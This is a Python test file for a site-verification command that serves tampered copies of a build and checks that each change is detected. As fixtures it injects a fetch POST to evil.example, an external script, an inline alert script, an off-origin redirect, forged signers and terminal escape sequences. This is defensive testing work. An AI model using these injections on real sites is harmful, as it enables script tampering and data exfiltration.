"""``wbs verify``: a served build passes; each way of tampering with it is named, with exit 1.

The untouched build is served by the real local host (functions/host.py). Tampered copies
are served by a stand-in WSGI host on 127.0.0.1 whose files, headers and redirects each test
changes.
"""

from __future__ import annotations

import base64
import hashlib
import json
import socket
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import nacl.public
import pytest
from click.testing import CliRunner, Result
from rich.console import Console
from waitress.server import create_server

from functions.headers import CONTENT_SECURITY_POLICY, SECURITY_HEADERS
from functions.keyring import fingerprint, grouped, load
from tests.support.api import RECOVERY
from tests.support.desks import add_desks
from tests.support.host import serving
from tests.support.site import ROOT, build_site
from tests.support.tls import Authority, https_serving, make_authority
from wbs import console
from wbs import verify as check
from wbs.cli import cli

CONFIG = ROOT / "site" / "config.toml"
APP = "assets/js/app.mjs"
WORKER = "assets/js/receipt-worker.mjs"


class StandIn:
    """A host that serves ``files`` (a copy of a build) with ``headers``, and answers the
    paths in ``redirects`` with a 302 to their target."""

    def __init__(self) -> None:
        self.files: dict[str, bytes] = {}
        self.headers: dict[str, str] = {}
        self.redirects: dict[str, str] = {}

    def __call__(self, environ: dict[str, Any], start_response: Any) -> list[bytes]:
        path = environ["PATH_INFO"]
        if path in self.redirects:
            start_response("302 Found", [("Location", self.redirects[path])])
            return [b""]
        name = path.lstrip("/")
        body = self.files.get(name + "index.html" if name == "" or name.endswith("/") else name)
        if body is None:
            start_response("404 Not Found", [("Content-Type", "text/plain")])
            return [b"not found"]
        start_response("200 OK", [*self.headers.items(), ("Content-Length", str(len(body)))])
        return [body]


@pytest.fixture(autouse=True)
def wide(monkeypatch: pytest.MonkeyPatch) -> None:
    """A wide console, so that table cells are not wrapped; no keyring or config from the
    environment."""
    monkeypatch.setattr(console, "out", Console(width=1000, highlight=False))
    for name in ("WBS_KEYRING", "WBS_CONFIG"):
        monkeypatch.delenv(name, raising=False)


@pytest.fixture(scope="module")
def stand_in_host() -> Iterator[tuple[str, StandIn]]:
    app = StandIn()
    server = create_server(app, host="127.0.0.1", port=0)
    with serving(server):
        yield f"http://127.0.0.1:{server.effective_port}", app


@pytest.fixture
def stand_in(
    stand_in_host: tuple[str, StandIn], keyring_file: Path, tmp_path: Path
) -> tuple[str, StandIn]:
    """The stand-in host serving an untouched build, with the right headers. Built afresh
    (0.1 s), so that the reference and the copy come from the same state of the tree."""
    url, app = stand_in_host
    build_site(keyring_file, tmp_path / "served", CONFIG)
    app.files = files_of(tmp_path / "served")
    app.headers = {**SECURITY_HEADERS, "Content-Type": "text/html; charset=utf-8"}
    app.redirects = {}
    return url, app


def files_of(folder: Path) -> dict[str, bytes]:
    return {
        p.relative_to(folder).as_posix(): p.read_bytes() for p in folder.rglob("*") if p.is_file()
    }


def verify(url: str, keyring: Path, *extra: str) -> Result:
    return CliRunner().invoke(
        cli, ["verify", url, "--keyring", str(keyring), "--config", str(CONFIG), *extra]
    )


def rows(result: Result) -> dict[str, tuple[str, str]]:
    """The files table: address -> (result, detail's first line)."""
    found = {}
    for line in result.stdout.splitlines():
        cells = [c.strip() for c in line.split("│")[1:-1]]
        if len(cells) == 3 and cells[0].startswith("/"):
            found[cells[0]] = (cells[1], cells[2])
    return found


def failed(result: Result) -> str:
    """The one-line error (and its hint) of a run that found differences."""
    assert result.exit_code == 1, result.output
    error, hint = result.stderr.splitlines()
    assert error.startswith("wbs: error: http://127.0.0.1:")
    assert "does not serve what this checkout builds" in error
    assert hint.startswith("hint: ") and "docs/verify.md" in hint
    return error


def sri(data: bytes) -> str:
    return "sha384-" + base64.b64encode(hashlib.sha384(data).digest()).decode()


def test_the_local_host_serving_the_build_passes(
    site_server: tuple[str, Path], keyring_file: Path
) -> None:
    # Given the real local host serving a build of this checkout
    url, _ = site_server
    # When an outsider verifies it with the same keyring and config
    result = verify(url, keyring_file)
    # Then every address matches, the workers are named as covered by this check only, and
    # the key's fingerprint is printed for comparison out of band
    assert result.exit_code == 0, result.output
    table = rows(result)
    assert {r for r, _ in table.values()} == {"ok"}
    for address in ("/", "/index.html", "/en/", "/status/", "/en/status/index.html", "/" + APP):
        assert address in table
    assert table["/" + WORKER] == ("ok", "no SRI: only this check covers it")
    assert table["/" + APP] == ("ok", "")
    ring = load(keyring_file)
    assert ring.recovery is not None
    for key in (ring.desk("inspektorat"), ring.recovery):
        assert grouped(key.fingerprint) in result.stdout
    assert "ok: http://127.0.0.1:" in result.stdout
    assert "Strict-Transport-Security was not checked" in result.stdout


def test_an_untouched_copy_passes_on_the_stand_in_host(
    stand_in: tuple[str, StandIn], keyring_file: Path
) -> None:
    url, app = stand_in
    app.redirects["/status/"] = "/status/index.html"  # within the origin: followed
    result = verify(url, keyring_file)
    assert result.exit_code == 0, result.output
    assert rows(result)["/status/"] == ("ok", "")


def test_a_changed_script_is_named(stand_in: tuple[str, StandIn], keyring_file: Path) -> None:
    url, app = stand_in
    app.files[APP] += b"\nfetch('https://evil.example/', {method: 'POST'});\n"
    result = verify(url, keyring_file)
    assert "/assets/js/app.mjs DIFFERENT" in failed(result)
    table = rows(result)
    assert table["/" + APP][0] == "DIFFERENT"
    assert table["/" + APP][1].startswith("SHA-256 ")
    assert table["/index.html"] == ("ok", "")


def test_a_changed_integrity_attribute_is_named(
    stand_in: tuple[str, StandIn], keyring_file: Path
) -> None:
    # Given a tampered script and a page whose integrity attribute was changed to match it
    url, app = stand_in
    built = app.files[APP]
    app.files[APP] = built + b"\n// changed\n"
    page = app.files["index.html"]
    assert page.count(sri(built).encode()) == 1
    app.files["index.html"] = page.replace(sri(built).encode(), sri(app.files[APP]).encode())
    # When verified, then the page names the script and both integrity values
    result = verify(url, keyring_file)
    error = failed(result)
    assert "/ DIFFERENT" in error and "/index.html DIFFERENT" in error
    table = rows(result)
    for address in ("/", "/index.html"):
        assert table[address] == (
            "DIFFERENT",
            f"<script type=module /assets/js/app.mjs> integrity {sri(app.files[APP])[:20]}…,"
            f" built {sri(built)[:20]}…",
        )
    assert table["/en/"] == ("ok", "")


def test_an_extra_script_from_another_origin_is_named(
    stand_in: tuple[str, StandIn], keyring_file: Path
) -> None:
    url, app = stand_in
    evil = b'<script src="https://evil.example/x.js"></script>\n</head>'
    app.files["en/index.html"] = app.files["en/index.html"].replace(b"</head>", evil)
    result = verify(url, keyring_file)
    assert "/en/ DIFFERENT" in failed(result)
    assert rows(result)["/en/"] == ("DIFFERENT", "extra <script https://evil.example/x.js>")
    assert "reference to another origin: <script src=https://evil.example/x.js>" in result.stdout


def test_inline_script_frames_and_styles_are_named(
    stand_in: tuple[str, StandIn], keyring_file: Path
) -> None:
    url, app = stand_in
    added = b'<style>body{}</style><iframe src="/x"></iframe><script>alert(1)</script></body>'
    app.files["status/index.html"] = app.files["status/index.html"].replace(b"</body>", added)
    result = verify(url, keyring_file)
    failed(result)
    for named in ("extra <iframe>", "extra <style>", "extra inline <script>"):
        assert named in result.stdout


@pytest.mark.parametrize(
    ("header", "value", "named"),
    [
        (
            "Content-Security-Policy",
            CONTENT_SECURITY_POLICY.replace(
                "script-src 'self'", "script-src 'self' 'unsafe-inline'"
            ),
            "script-src adds 'unsafe-inline'",
        ),
        ("Content-Security-Policy", "default-src 'none'", "no script-src"),
        ("X-Content-Type-Options", None, "missing"),
        ("Referrer-Policy", "origin", "is 'origin', not 'no-referrer'"),
    ],
)
def test_a_weakened_or_missing_header_is_named(
    stand_in: tuple[str, StandIn], keyring_file: Path, header: str, value: str | None, named: str
) -> None:
    url, app = stand_in
    if value is None:
        del app.headers[header]
    else:
        app.headers[header] = value
    result = verify(url, keyring_file)
    assert f"{header} header" in failed(result)
    assert {r for r, _ in rows(result).values()} == {"ok"}  # the files themselves are intact
    line = next(line for line in result.stdout.splitlines() if named in line)
    assert header in line and "every answer (" in line


def test_a_missing_worker_is_named(stand_in: tuple[str, StandIn], keyring_file: Path) -> None:
    url, app = stand_in
    del app.files[WORKER]
    result = verify(url, keyring_file)
    assert f"/{WORKER} missing" in failed(result)
    assert rows(result)["/" + WORKER] == ("missing", "HTTP 404")


def test_a_redirect_to_another_origin_is_not_followed(
    stand_in: tuple[str, StandIn], keyring_file: Path
) -> None:
    url, app = stand_in
    app.redirects["/" + APP] = "https://evil.example/app.mjs"
    result = verify(url, keyring_file)
    failed(result)
    assert rows(result)["/" + APP] == (
        "DIFFERENT",
        "redirects to another origin: https://evil.example/app.mjs",
    )


def test_a_page_built_for_another_keyring_is_named(
    stand_in: tuple[str, StandIn], keyring_file: Path, tmp_path: Path
) -> None:
    # Given a site built from the same checkout, but for someone else's desk key
    url, app = stand_in
    add_desks(tmp_path / "keys" / "keyring.json", recovery=RECOVERY.private_key)
    other = load(tmp_path / "keys" / "keyring.json").desk("inspektorat")
    build_site(tmp_path / "keys" / "keyring.json", tmp_path / "site", CONFIG)
    app.files = files_of(tmp_path / "site")
    # When verified against the real keyring
    result = verify(url, keyring_file)
    # Then every page names both keys, the manifest its pages, and the key table says NO
    failed(result)
    table = rows(result)
    assert table["/index.html"] == (
        "DIFFERENT",
        f"encrypts to key {other.kid} (Inspektorat), not in the local keyring",
    )
    assert "does not encrypt to key inspektorat (Inspektorat) of the local keyring" in (
        result.stdout
    )
    assert table["/build-manifest.json"] == (
        "DIFFERENT",
        "lists other sums for en/index.html, en/status/index.html, index.html, status/index.html",
    )
    assert table["/" + APP] == ("ok", "")
    line = next(line for line in result.stdout.splitlines() if other.kid in line and "NO" in line)
    assert grouped(other.fingerprint) in line


def test_a_page_showing_the_right_fingerprint_for_another_key_is_named(
    stand_in: tuple[str, StandIn], keyring_file: Path
) -> None:
    # Given a page that shows the desk's fingerprint but holds another key
    url, app = stand_in
    ours = load(keyring_file).desk("inspektorat")
    theirs = base64.b64encode(bytes(nacl.public.PrivateKey.generate().public_key)).decode()
    page = app.files["index.html"]
    app.files["index.html"] = page.replace(ours.public_key.encode(), theirs.encode())
    real = fingerprint(base64.b64decode(theirs))
    result = verify(url, keyring_file)
    # Then the page is named for showing one key and encrypting to another
    failed(result)
    assert rows(result)["/index.html"] == (
        "DIFFERENT",
        f"key inspektorat (Inspektorat) shows fingerprint {ours.fingerprint[:20]}…,"
        f" but its public key's is {real[:20]}…",
    )
    assert f"encrypts to key {real[:16]} (Inspektorat), not in the local keyring" in (result.stdout)
    line = next(line for line in result.stdout.splitlines() if real[:16] in line and "NO" in line)
    assert grouped(real) in line


@pytest.mark.parametrize(
    ("old", "new", "named"),
    [
        # a signer added: forged replies would verify on the status page
        (b'"signers":{', b'"signers":{"0123456789abcdef":"AAAA",', "#wbs-keys"),
        # every report routed to the central desk only, whatever the office
        (b'"central_receives":"all"', b'"central_receives":"none"', "#wbs-routing"),
    ],
)
def test_a_changed_data_block_is_named(
    stand_in: tuple[str, StandIn], keyring_file: Path, old: bytes, new: bytes, named: str
) -> None:
    # Given a page whose data block was changed, its keys untouched
    url, app = stand_in
    assert old in app.files["index.html"]
    app.files["index.html"] = app.files["index.html"].replace(old, new)
    # When verified, Then the page is named for it
    result = verify(url, keyring_file)
    failed(result)
    assert rows(result)["/index.html"] == ("DIFFERENT", f"data block {named} is not the build's")


def test_extra_files_are_named(stand_in: tuple[str, StandIn], keyring_file: Path) -> None:
    url, app = stand_in
    listing = json.loads(app.files["build-manifest.json"])
    listing["files"]["assets/js/extra.mjs"] = "0" * 64
    app.files["build-manifest.json"] = json.dumps(listing).encode()
    preload = b'<link rel="modulepreload" href="/assets/js/more.mjs">\n</head>'
    app.files["index.html"] = app.files["index.html"].replace(b"</head>", preload)
    result = verify(url, keyring_file)
    failed(result)
    table = rows(result)
    assert table["/assets/js/extra.mjs"] == ("extra", "listed in the served build-manifest.json")
    assert table["/assets/js/more.mjs"] == ("extra", "loaded by /")
    assert table["/build-manifest.json"] == (
        "DIFFERENT",
        "lists files the build does not have: assets/js/extra.mjs",
    )


def test_an_unreachable_site_is_one_error_with_a_hint(keyring_file: Path) -> None:
    with socket.socket() as probe:  # a port nothing listens on
        probe.bind(("127.0.0.1", 0))
        port = probe.getsockname()[1]
    result = verify(f"http://127.0.0.1:{port}", keyring_file)
    assert result.exit_code == 1
    error, hint = result.stderr.splitlines()
    assert error.startswith(f"wbs: error: cannot fetch http://127.0.0.1:{port}/build-manifest.json")
    assert hint.startswith("hint: check the address")


@pytest.mark.parametrize(
    "url",
    ["ftp://example.org", "https://example.org/lapor/", "https://example.org/?a=1", "example.org"],
)
def test_an_address_that_is_not_an_origin_is_refused(url: str, keyring_file: Path) -> None:
    result = verify(url, keyring_file)
    assert result.exit_code == 1
    assert result.stderr.splitlines() == [
        f"wbs: error: {url} is not a site's address",
        "hint: give the origin the site is served at: wbs verify https://lapor.example.go.id",
    ]


def test_hsts_is_required_over_https_only() -> None:
    headers = {k.lower(): (v,) for k, v in SECURITY_HEADERS.items()}
    assert check.header_differences(headers, https=True) == []
    del headers["strict-transport-security"]
    assert check.header_differences(headers, https=False) == []
    assert check.header_differences(headers, https=True) == [
        ("Strict-Transport-Security", "missing")
    ]


def test_csp_is_compared_directive_by_directive() -> None:
    served = "default-src 'none'; script-src 'SELF' https://cdn.example; report-uri /r"
    assert check.csp_differences(
        "default-src 'none'; script-src 'self'; base-uri 'none'", served
    ) == [
        "no base-uri",
        "adds report-uri /r",
        "script-src adds https://cdn.example",
    ]


# Characters a hostile site can send to paint over the terminal: CSI and OSC sequences,
# carriage return, backspace, BEL, a C1 CSI, and bidi overrides and isolates.
RAW_CONTROLS = ("\x1b", "\r", "\x08", "\x07", "\x9b", "\u202e", "\u2066")


def test_control_characters_from_the_site_are_shown_escaped(
    stand_in: tuple[str, StandIn], keyring_file: Path
) -> None:
    # Given a served manifest whose file names carry terminal escapes, and a page whose key
    # label and kid do, and whose key is another
    url, app = stand_in
    painted = "assets/js/\x1b[2K\r\x1b[32mok\x1b[0m.mjs"
    hyperlink = "assets/\x1b]8;;https://evil.example\x07link\x1b]8;;\x07\x08\x08\x9b.mjs"
    reversed_name = "assets/\u202esjm.\u2066ok\n.mjs"
    markup = "assets/[bold green]ok[/bold green].mjs"
    listing = json.loads(app.files["build-manifest.json"])
    for name in (painted, hyperlink, reversed_name, markup):
        listing["files"][name] = "0" * 64
    app.files["build-manifest.json"] = json.dumps(listing).encode()
    ours = load(keyring_file).desk("inspektorat")
    theirs = base64.b64encode(bytes(nacl.public.PrivateKey.generate().public_key)).decode()
    page = app.files["index.html"].replace(ours.public_key.encode(), theirs.encode())
    # the desk's name and id in the keys' data block, escaped as JSON allows, and in the list
    page = page.replace(
        b'{"desks":{"inspektorat":{"name":"Inspektorat"',
        b'{"desks":{"\\u001b[32mok\\r":{"name":"Inspektur\\u001b[8m Uji\\u202e"',
    )
    app.files["index.html"] = page.replace(b'data-desk="inspektorat"', b'data-desk="\x1b[32mok\r"')
    # When verified
    result = verify(url, keyring_file)
    # Then it fails, and nothing the site sent reaches the terminal raw
    assert result.exit_code == 1, result.output
    for raw in RAW_CONTROLS:
        assert raw not in result.stdout, repr(raw)
        assert raw not in result.stderr, repr(raw)
    # but is shown escaped, in the files table, the summary and the keys table
    table = rows(result)
    assert table["/assets/js/\\x1b[2K\\x0d\\x1b[32mok\\x1b[0m.mjs"][0] == "extra"
    assert table["/assets/\\u202esjm.\\u2066ok\\x0a.mjs"][0] == "extra"
    assert table["/assets/[bold green]ok[/bold green].mjs"][0] == "extra"
    hyperlink_shown = "\\x1b]8;;https://evil.example\\x07link\\x1b]8;;\\x07\\x08\\x08\\x9b.mjs"
    assert f"/assets/{hyperlink_shown}" in table
    assert "extra" in failed(result) and "\\x1b[2K\\x0d\\x1b[32mok" in result.stderr
    assert "key \\x1b[32mok\\x0d (Inspektur\\x1b[8m Uji\\u202e) shows fingerprint" in (
        result.stdout
    )
    label_row = next(line for line in result.stdout.splitlines() if "NO" in line)
    assert "Inspektur\\x1b[8m Uji\\u202e" in label_row


# --- a private CA -----------------------------------------------------------------------------


@pytest.fixture(scope="module")
def authority(tmp_path_factory: pytest.TempPathFactory) -> Authority:
    return make_authority(tmp_path_factory.mktemp("ca"))


def test_a_site_behind_a_private_ca_is_named_with_the_way_to_trust_it(
    stand_in: tuple[str, StandIn], keyring_file: Path, authority: Authority
) -> None:
    # Given an untouched build served over https with a certificate of a private CA
    _, app = stand_in
    with https_serving(app, authority) as url:
        # When verified without --ca, then the certificate is named, and --ca is the hint
        result = verify(url, keyring_file)
        assert result.exit_code == 1, result.output
        error, hint = result.stderr.splitlines()
        assert error.startswith(f"wbs: error: cannot fetch {url}/build-manifest.json:")
        assert "its certificate is not trusted (unable to get local issuer certificate)" in error
        assert hint == (
            "hint: if the site's certificate comes from a private CA, give that CA's"
            " certificate: --ca FILE (PEM)"
        )
        # When verified with that CA, then every request of the check trusts it, HSTS too
        trusted = verify(url, keyring_file, "--ca", str(authority.ca))
    assert trusted.exit_code == 0, trusted.output
    assert {r for r, _ in rows(trusted).values()} == {"ok"}
    assert f"ok: {url} serves exactly what this checkout builds" in trusted.stdout
    assert "Strict-Transport-Security was not checked" not in trusted.stdout


def test_another_ca_is_not_trusted_by_ca(
    stand_in: tuple[str, StandIn], keyring_file: Path, authority: Authority, tmp_path: Path
) -> None:
    # --ca replaces the trusted set: a CA that did not sign the certificate opens nothing
    other = make_authority(tmp_path / "other")
    _, app = stand_in
    with https_serving(app, authority) as url:
        result = verify(url, keyring_file, "--ca", str(other.ca))
    assert result.exit_code == 1
    assert "its certificate is not trusted" in result.stderr


def test_a_ca_file_that_is_not_pem_is_refused(keyring_file: Path, tmp_path: Path) -> None:
    bad = tmp_path / "ca.pem"
    bad.write_text("not a certificate\n", encoding="utf-8")
    result = verify("https://127.0.0.1:1", keyring_file, "--ca", str(bad))
    assert result.exit_code == 1
    assert result.stderr.splitlines() == [
        f"wbs: error: {bad} holds no PEM certificate",
        "hint: give the CA's certificate (or a bundle) in PEM: -----BEGIN CERTIFICATE-----",
    ]


def test_a_hybrid_desk_is_compared_by_the_fingerprint_the_page_embeds() -> None:
    # Given a keys block as the build writes it for a hybrid desk (xwing-v1 section 8.8)
    desk_fp, recovery_fp, other_fp = "ab" * 32, "cd" * 32, "ef" * 32
    block = {
        "desks": {"d": {"name": "Meja", "type": "X-Wing", "fingerprint": desk_fp}},
        "recovery": {
            "label": "Pemulihan",
            "public_key": base64.b64encode(bytes(range(32))).decode(),
            "xwing_fingerprint": recovery_fp,
        },
        "signers": {},
    }
    built = check.embedded_keys(json.dumps(block))
    # Then the same block has no difference, and each key is its fingerprint
    assert check.key_differences(built, built) == []
    assert {k.name: k.fingerprint for k in built if k.hybrid} == {
        "d": desk_fp,
        "recovery/X-Wing": recovery_fp,
    }
    # When a served page names another hybrid key, or something that is no fingerprint
    block["desks"]["d"]["fingerprint"] = other_fp
    served = check.embedded_keys(json.dumps(block))
    block["desks"]["d"]["fingerprint"] = "not a fingerprint"
    broken = check.embedded_keys(json.dumps(block))
    # Then each is named
    assert check.key_differences(built, served) == [
        f"encrypts to key {other_fp[:16]} (Meja), not in the local keyring",
        "does not encrypt to key d (Meja) of the local keyring",
    ]
    assert "key d (Meja) is not a public key" in check.key_differences(built, broken)
